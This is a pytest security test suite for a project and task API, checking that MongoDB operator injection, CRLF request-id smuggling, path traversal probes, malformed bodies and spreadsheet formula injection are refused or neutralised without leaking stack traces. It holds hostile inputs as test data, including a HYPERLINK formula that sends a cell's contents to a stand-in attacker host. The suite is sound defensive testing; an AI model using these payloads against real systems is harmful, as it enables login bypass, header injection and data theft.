"""API8:2023 Security Misconfiguration: injection through bodies, queries and headers, and what
errors give away (SPEC §6). MongoDB operators sent by a client are refused or taken literally,
a request id that is not plain is replaced rather than echoed, and a problem document never
carries a stack trace."""

from __future__ import annotations

import csv
import io
import re
import socket
from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from pymongo.database import Database

from tests.e2e.support import (
    PROBLEM_KEYS,
    assert_problem,
    count_audits,
    projects_and_tasks,
    users_state,
)
from tests.factories import DEFAULT_PASSWORD, make_project
from tests.security.conftest import Cast
from todo_common.principal import Role
from todo_common.records import User

UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$")
OPERATORS: list[Any] = [{"$gt": ""}, {"$ne": None}, {"$regex": ".*"}, ["$gt", ""]]
STACK_TRACE_MARKERS = ("Traceback", 'File "', "pymongo", "bson", "line ", "Exception")


@pytest.mark.parametrize("operator", OPERATORS, ids=["gt", "ne", "regex", "list"])
@pytest.mark.parametrize("field", ["email", "password"])
def test_login_with_a_mongodb_operator_for_a_credential_gets_422_and_no_token(
    client: httpx.Client, cast: Cast, field: str, operator: Any
) -> None:
    body = {"email": cast.user.user.email, "password": DEFAULT_PASSWORD, field: operator}

    response = client.post("/auth/login", json=body)

    assert_problem(response, 422)
    assert "access_token" not in response.text


@pytest.mark.parametrize("operator", OPERATORS, ids=["gt", "ne", "regex", "list"])
def test_writing_a_mongodb_operator_as_a_value_gets_422_and_nothing_changes(
    client: httpx.Client, db: Database[dict[str, Any]], cast: Cast, operator: Any
) -> None:
    before = (users_state(db), projects_and_tasks(db))
    responses = [
        client.post("/projects", json={"name": operator}, headers=cast.manager.headers),
        client.patch(
            f"/tasks/{cast.victim_task.id}",
            json={"assignedTo": operator},
            headers=cast.victim_manager.headers,
        ),
        client.patch(f"/users/{cast.user.id}", json={"email": operator}, headers=cast.user.headers),
    ]
    for response in responses:
        assert_problem(response, 422)
    assert (users_state(db), projects_and_tasks(db)) == before


def test_a_field_name_that_is_an_operator_or_a_dotted_path_gets_422(
    client: httpx.Client, db: Database[dict[str, Any]], cast: Cast
) -> None:
    before = users_state(db)
    bodies: list[dict[str, Any]] = [
        {"$set": {"role": "ADMIN"}},
        {"role.$": "ADMIN"},
        {"outbox.x": {}},
    ]
    for body in bodies:
        response = client.patch(f"/users/{cast.user.id}", json=body, headers=cast.user.headers)
        assert_problem(response, 422)
    assert users_state(db) == before


@pytest.mark.parametrize(
    "query",
    [
        "ownerId[$ne]=x",
        "ownerId=%7B%22%24ne%22%3A%22x%22%7D",  # ownerId={"$ne":"x"}
        "isActive[$ne]=true",
    ],
    ids=["bracket-operator", "json-operator", "bracket-isActive"],
)
def test_operators_in_a_query_string_never_widen_a_list(
    client: httpx.Client, db: Database[dict[str, Any]], cast: Cast, query: str
) -> None:
    deleted = make_project(db, cast.victim_manager.user, name="Deleted", is_active=False)

    response = client.get(f"/projects?{query}", headers=cast.user.headers)

    if response.status_code == 200:  # taken literally (or as an unknown parameter): no more
        names = {item["id"] for item in response.json()["items"]}
        assert deleted.id not in names
        assert names <= {cast.victim_project.id}
    else:
        assert_problem(response, 422)


@pytest.mark.parametrize("pattern", [".*", "^", "(a+)+$", "[", "\\"])
def test_a_regular_expression_as_a_name_prefix_is_taken_literally(
    client: httpx.Client, cast: Cast, pattern: str
) -> None:
    response = client.get("/projects", params={"q": pattern}, headers=cast.user.headers)

    assert response.status_code == 200, response.text
    assert response.json()["items"] == []  # no project's name starts with those characters


@pytest.mark.parametrize(
    "sent",
    ["x" * 129, "a b", "<script>alert(1)</script>", "a;b=c", "id\u00e9".encode("latin-1")],
    ids=["too-long", "space", "markup", "separator", "non-ascii"],
)
def test_a_request_id_that_is_not_plain_is_replaced_not_echoed(
    api: httpx.Client, cast: Cast, sent: str | bytes
) -> None:
    headers = [(name.encode(), value.encode()) for name, value in cast.admin.headers.items()]
    raw = sent if isinstance(sent, bytes) else sent.encode()
    response = api.get("/users/not-an-id", headers=[*headers, (b"X-Request-Id", raw)])

    echoed = response.headers["x-request-id"]
    assert UUID.match(echoed), echoed
    assert response.json()["requestId"] == echoed


def test_a_request_id_smuggling_a_header_line_is_not_echoed_into_the_response(
    gateway_url: str,
) -> None:
    url = urlsplit(gateway_url)
    request = (
        b"GET /health HTTP/1.1\r\nHost: x\r\n"
        b"X-Request-Id: ok%0d%0aSet-Cookie:%20pwned=1\r\nConnection: close\r\n\r\n"
    )
    with socket.create_connection((url.hostname, url.port), timeout=10) as sock:
        sock.sendall(request)
        raw = b""
        while chunk := sock.recv(65536):
            raw += chunk
    head = raw.split(b"\r\n\r\n", 1)[0].lower()
    assert b"set-cookie" not in head
    assert b"pwned" not in head


BROKEN_REQUESTS = {
    "invalid-json": ("POST", "/projects", b"{not json", 422),
    "json-array": ("POST", "/projects", b"[]", 422),
    # Past the JSON parser's depth: the body cannot be read at all (400, not 422).
    "deep-nesting": ("POST", "/projects", b'{"name":' + b"[" * 5000 + b"]" * 5000 + b"}", 400),
    "huge-number": ("POST", "/projects", b'{"name": "a", "description": 1e999999}', 422),
    "nul-bytes": ("POST", "/projects", b'{"name": "\\u0000"}', 201),
    "bad-if-match": ("PATCH", "/projects/{project}", b'{"description": "x"}', 412),
}


@pytest.mark.parametrize(
    ("method", "path", "body", "status"), BROKEN_REQUESTS.values(), ids=BROKEN_REQUESTS.keys()
)
def test_a_malformed_request_gets_a_problem_document_without_a_stack_trace(
    client: httpx.Client, cast: Cast, method: str, path: str, body: bytes, status: int
) -> None:
    response = client.request(
        method,
        path.format(project=cast.victim_project.id),
        content=body,
        headers={
            **cast.victim_manager.headers,
            "Content-Type": "application/json",
            "If-Match": "not-an-etag",
        },
    )

    if status == 201:
        assert response.status_code in (201, 422), response.text
        return
    problem = assert_problem(response, status)
    assert problem.keys() <= PROBLEM_KEYS | {"errors"}
    for marker in STACK_TRACE_MARKERS:
        assert marker not in response.text, marker


@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", "/admin"), ("GET", "/.env"), ("GET", "/users/me/../../etc/passwd"), ("TRACE", "/")],
    ids=["admin", "dotenv", "traversal", "trace"],
)
def test_a_route_the_api_does_not_serve_is_refused_without_detail(
    client: httpx.Client, cast: Cast, method: str, path: str
) -> None:
    response = client.request(method, path, headers=cast.admin.headers)

    assert response.status_code in (403, 404, 405), response.text
    for marker in (*STACK_TRACE_MARKERS, "SECURITY_SECRET_KEY", "mongodb://"):
        assert marker not in response.text


def test_a_known_path_with_a_method_it_does_not_take_gets_405_or_404_problem(
    client: httpx.Client, cast: Cast
) -> None:
    response = client.request("PATCH", "/auth/login", headers=cast.admin.headers)

    assert response.status_code in (404, 405), response.text
    if response.status_code == 405:
        assert response.headers["allow"]
    assert "Traceback" not in response.text


@pytest.mark.parametrize(
    ("path", "allow"),
    [
        ("/users/me", "GET"),
        ("/users/64b000000000000000000001", "DELETE, GET, PATCH, PUT"),
        ("/audits/verify", "GET"),
        ("/auth/logout", "POST"),
    ],
    ids=["me", "a-user", "verify", "logout"],
)
def test_a_405_allows_exactly_the_methods_of_the_resource_asked_for(
    client: httpx.Client, cast: Cast, path: str, allow: str
) -> None:
    """`/users/me` is a resource of its own, not a `/users/{user_id}`: its `Allow` is its own
    methods (issue 17), as API Gateway prefers the route without a path variable."""
    response = client.request("OPTIONS", path, headers=cast.admin.headers)

    assert_problem(response, 405)
    assert response.headers["allow"] == allow


def test_the_docs_and_health_say_nothing_about_the_servers_behind(client: httpx.Client) -> None:
    health = client.get("/health").json()
    # states and round-trip times (issue 13), never a host, port, version or URI
    latencies = health.pop("latencyMs")
    assert health == {"status": "ok", "mongo": "ok", "redis": "ok"}
    assert set(latencies) == {"mongo", "redis"}
    assert all(isinstance(ms, int | float) for ms in latencies.values())
    spec = client.get("/openapi.json").text
    for secret in ("mongodb://", "redis://", "127.0.0.1", "SECURITY_SECRET_KEY"):
        assert secret not in spec


# --- found by the outside attack (issue 8) ----------------------------------------

Login = Callable[[str, str], dict[str, Any]]
MakeUser = Callable[..., tuple[User, dict[str, str]]]
Db = Database[dict[str, Any]]
WRONG = "not-the-password-1"


# --- 3. no formula reaches the ADMIN's spreadsheet --------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_formula_planted_through_a_failed_login_is_neutralised_in_the_csv_export(
    api: httpx.Client, db: Db, user_with_token: MakeUser
) -> None:
    # Given failed logins for emails that are spreadsheet formulas, sent without an account
    planted = ["=1+2@evil.example", "+cmd|x!a@evil.example", "-2+3@evil.example"]
    for email in planted:
        response = api.post("/auth/login", json={"email": email, "password": WRONG})
        assert_problem(response, 401)
    _, admin = user_with_token(Role.ADMIN)
    assert count_audits(db, {"entityId": {"$in": planted}}, len(planted)) == len(planted)

    # When the ADMIN exports the trail as CSV
    export = api.get("/audits", headers={**admin, "Accept": "text/csv"})

    # Then every planted value is there, quoted with a leading apostrophe, and no cell starts a
    # formula
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows[1:] for cell in row]
    for email in planted:
        assert f"'{email}" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize(
    "username", ["not-an-email", '=HYPERLINK("http://evil.example/?x="&A1,"c")', "x" * 60_000]
)
def test_the_token_form_refuses_a_username_that_is_not_an_email_and_records_nothing(
    api: httpx.Client, db: Db, username: str
) -> None:
    # When the OAuth2 form is sent with a username that is no email
    response = api.post("/auth/token", data={"username": username, "password": WRONG})

    # Then it is a 422 naming the field
    body = assert_problem(response, 422)
    assert ["body", "username"] in [error["loc"] for error in body["errors"]]

    # And nothing was audited: a later failed login is recorded, the refused one never is
    api.post("/auth/login", json={"email": "sentinel@example.com", "password": WRONG})
    assert count_audits(db, {"entityId": "sentinel@example.com"}, 1) == 1
    assert db.audits.count_documents({"entityId": username}) == 0
    assert db.audit_outbox.count_documents({}) == 0 or not list(
        db.audit_outbox.find({"event.entityId": username})
    )


def test_an_email_over_320_characters_is_refused_before_anything_is_stored(
    api: httpx.Client, db: Db
) -> None:
    email = "a" * 64 + "@" + ".".join(["b" * 60] * 5) + ".example"
    assert len(email) > 320
    login = api.post("/auth/login", json={"email": email, "password": WRONG})
    assert_problem(login, 422)
    form = api.post("/auth/token", data={"username": email, "password": WRONG})
    assert_problem(form, 422)
    api.post("/auth/login", json={"email": "sentinel@example.com", "password": WRONG})
    assert count_audits(db, {"entityId": "sentinel@example.com"}, 1) == 1
    assert db.audits.count_documents({"entityId": email}) == 0


# --- 5. dates that cannot be represented are 422, never 500 ------------------------------------

UNREPRESENTABLE = ("9999-12-31T23:00:00-14:00", "0001-01-01T00:00:00+14:00")
EXTREME_BUT_VALID = ("9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z")


def _date_query_params(document: dict[str, Any]) -> list[tuple[str, str]]:
    """(path, parameter) for every GET query parameter that is a date-time in the document."""
    found = []
    for path, operations in document["paths"].items():
        for parameter in operations.get("get", {}).get("parameters", []):
            schema = parameter.get("schema", {})
            options = schema.get("anyOf", [schema])
            if parameter["in"] == "query" and any(o.get("format") == "date-time" for o in options):
                found.append((path, parameter["name"]))
    return found


def _date_body_fields(document: dict[str, Any]) -> list[tuple[str, str, str]]:
    """(method, path, field) for every request-body field that is a date-time."""
    schemas = document["components"]["schemas"]
    found = []
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            ref = content.get("application/json", {}).get("schema", {}).get("$ref")
            if not ref:
                continue
            properties = schemas[ref.rsplit("/", 1)[1]].get("properties", {})
            for name, schema in properties.items():
                options = schema.get("anyOf", [schema])
                if any(option.get("format") == "date-time" for option in options):
                    found.append((method, path, name))
    return found


def test_every_date_parameter_and_field_of_the_api_is_known_to_this_test(
    api: httpx.Client,
) -> None:
    # The routes below are exercised one by one; a new date input must be added to them.
    document = api.get("/openapi.json").json()
    assert sorted(_date_query_params(document)) == sorted(DATE_QUERY_ROUTES)
    assert sorted(_date_body_fields(document)) == sorted([*DATE_BODY_ROUTES, TOKEN_EXPIRY])


DATE_QUERY_ROUTES = [
    ("/tasks", "dueBefore"),
    ("/tasks", "updatedSince"),
    ("/projects", "updatedSince"),
    ("/audits", "from"),
    ("/audits", "to"),
    ("/audits/verify", "from"),
    ("/audits/verify", "to"),
    ("/reports/activity", "from"),
    ("/reports/activity", "to"),
]
DATE_BODY_ROUTES = [
    ("post", "/tasks", "dueDate"),
    ("put", "/tasks/{task_id}", "dueDate"),
    ("patch", "/tasks/{task_id}", "dueDate"),
]
TOKEN_EXPIRY = ("post", "/auth/tokens", "expiresAt")  # a bounded date: its own test below


@pytest.mark.parametrize(("path", "name"), DATE_QUERY_ROUTES)
@pytest.mark.parametrize("value", UNREPRESENTABLE)
def test_an_unrepresentable_date_in_a_query_is_422_naming_the_parameter(
    api: httpx.Client, user_with_token: MakeUser, path: str, name: str, value: str
) -> None:
    _, admin = user_with_token(Role.ADMIN)
    body = assert_problem(api.get(path, params={name: value}, headers=admin), 422)
    assert ["query", name] in [error["loc"] for error in body["errors"]]


@pytest.mark.parametrize(("path", "name"), DATE_QUERY_ROUTES)
@pytest.mark.parametrize("value", EXTREME_BUT_VALID)
def test_the_first_and_last_representable_instants_in_a_query_are_answered(
    api: httpx.Client, user_with_token: MakeUser, path: str, name: str, value: str
) -> None:
    _, admin = user_with_token(Role.ADMIN)
    params = {name: value}
    if path == "/reports/activity":  # the report needs both ends, at most a year apart
        first = value.startswith("0001")
        params = (
            {"from": value, "to": "0001-12-31T00:00:00Z"}
            if first
            else {
                "from": "9999-12-01T00:00:00Z",
                "to": value,
            }
        )
    if path == "/audits/verify":  # at most 7 days, and `to` defaults to now
        params = (
            {"from": value, "to": "0001-01-02T00:00:00Z"}
            if value.startswith("0001")
            else {"from": "9999-12-31T00:00:00Z", "to": value}
        )
    response = api.get(path, params=params, headers=admin)
    assert response.status_code == 200, response.text


@pytest.mark.parametrize(("method", "path", "name"), DATE_BODY_ROUTES)
@pytest.mark.parametrize("value", UNREPRESENTABLE)
def test_an_unrepresentable_date_in_a_body_is_422_and_changes_nothing(
    api: httpx.Client,
    db: Db,
    user_with_token: MakeUser,
    method: str,
    path: str,
    name: str,
    value: str,
) -> None:
    admin_user, admin = user_with_token(Role.ADMIN)
    project = make_project(db, owner=admin_user)
    created = api.post("/tasks", json={"projectId": project.id, "description": "d"}, headers=admin)
    assert created.status_code == 201, created.text
    task_id = created.json()["id"]
    body: dict[str, Any] = {name: value}
    if method in ("post", "put"):
        body |= {"projectId": project.id, "description": "d"}
    url = path.replace("{task_id}", task_id)
    response = api.request(method.upper(), url, json=body, headers=admin)
    problem = assert_problem(response, 422)
    assert ["body", name] in [error["loc"] for error in problem["errors"]]
    assert db.tasks.count_documents({}) == 1
    stored = db.tasks.find_one({})
    assert stored is not None
    assert stored["version"] == 1
    assert stored["dueDate"] is None


@pytest.mark.parametrize("value", UNREPRESENTABLE)
def test_an_unrepresentable_token_expiry_is_422_and_creates_no_token(
    api: httpx.Client, db: Db, user_with_token: MakeUser, value: str
) -> None:
    _, signed_in = user_with_token(Role.USER)
    body = {"name": "CI", "scopes": ["read"], "expiresAt": value}
    problem = assert_problem(api.post("/auth/tokens", json=body, headers=signed_in), 422)
    assert ["body", "expiresAt"] in [error["loc"] for error in problem["errors"]]
    assert db.access_tokens.count_documents({}) == 0


# --- 9. one rule for ids ------------------------------------------------------------------------


def test_an_upper_case_id_is_accepted_in_filters_as_in_paths(
    api: httpx.Client, db: Db, user_with_token: MakeUser
) -> None:
    admin_user, admin = user_with_token(Role.ADMIN)
    project = make_project(db, owner=admin_user)
    api.post("/tasks", json={"projectId": project.id, "description": "d"}, headers=admin)
    upper = project.id.upper()

    assert api.get(f"/projects/{upper}", headers=admin).json()["id"] == project.id
    tasks = api.get("/tasks", params={"projectId": upper}, headers=admin)
    assert tasks.status_code == 200, tasks.text
    assert [t["projectId"] for t in tasks.json()["items"]] == [project.id]
    owned = api.get("/projects", params={"ownerId": admin_user.id.upper()}, headers=admin)
    assert owned.status_code == 200, owned.text
    assert [p["id"] for p in owned.json()["items"]] == [project.id]
    created = api.post("/tasks", json={"projectId": upper, "description": "upper"}, headers=admin)
    assert created.status_code == 201, created.text
    assert created.json()["projectId"] == project.id


def test_a_body_that_is_not_utf8_is_refused_and_creates_nothing(
    api: httpx.Client, db: Db, user_with_token: MakeUser
) -> None:
    _, admin = user_with_token(Role.ADMIN)
    raw = b'{"name": "caf\xe9 \xff", "description": "d"}'
    response = api.post(
        "/projects", content=raw, headers={**admin, "Content-Type": "application/json"}
    )
    assert response.status_code == 400, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["status"] == 400
    assert db.projects.count_documents({}) == 0
